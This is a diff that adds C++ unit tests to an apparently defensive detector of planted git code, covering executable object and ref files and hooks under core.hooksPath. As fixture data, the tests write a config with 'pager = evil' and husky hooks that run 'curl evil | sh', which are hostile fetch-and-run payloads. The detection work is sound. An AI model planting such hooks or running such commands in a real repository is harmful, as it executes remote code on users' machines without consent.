@@ -89,6 +89,34 @@ TEST_F(PlantedCode, LinkedObjectsAndRefsStillMakeARepository) {
   EXPECT_EQ(planted(), (std::vector<std::string>{"sub/HEAD", "sub/config"}));
 }
 
+// git takes objects and refs it may enter, as access(X_OK) says: two
+// executable files make a repository as well as two folders.
+TEST_F(PlantedCode, ExecutableFilesAsObjectsAndRefsStillMakeARepository) {
+  write_file(ws_ + "/HEAD", "ref: refs/heads/main\n");
+  write_file(ws_ + "/config", "[core]\n\tpager = evil\n");
+  write_file(ws_ + "/objects", "");
+  write_file(ws_ + "/refs", "");
+  EXPECT_EQ(planted(), std::vector<std::string>{});  // not executable: not a repository
+  fs::permissions(ws_ + "/objects", fs::perms::owner_exec, fs::perm_options::add);
+  fs::permissions(ws_ + "/refs", fs::perms::owner_exec, fs::perm_options::add);
+  EXPECT_EQ(planted(), (std::vector<std::string>{"HEAD", "config"}));
+}
+
+// core.hooksPath (husky's .husky) makes a folder in the workspace the
+// repository's hooks: what appears or changes there is planted code.
+TEST_F(PlantedCode, HooksUnderCoreHooksPathAreFlagged) {
+  write_file(ws_ + "/old/.git/config", "[core]\n\tbare = false\n\thooksPath = \".husky\"  # husky\n");
+  write_file(ws_ + "/old/.husky/pre-commit", "npm test\n");
+  before_ = snapshot_autorun_entries(ws_, true);
+  EXPECT_EQ(planted(), std::vector<std::string>{});
+  write_file(ws_ + "/old/.husky/pre-commit", "curl evil | sh\n");
+  write_file(ws_ + "/old/.husky/post-checkout", "curl evil | sh\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"old/.husky/post-checkout", "old/.husky/pre-commit"}));
+  // Without write_git's check (a command the human let write git metadata),
+  // the hooks folder is git's and not looked at.
+  EXPECT_EQ(planted_since(before_, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
+}
+
 TEST_F(PlantedCode, ASubmodulesConfigOrAHookInAnExistingRepositoryIsMovedAsideAlone) {
   // Inside an existing .git, only what changed goes: not the user's repository.
   write_file(ws_ + "/old/.git/modules/lib/HEAD", "ref: refs/heads/main\n");
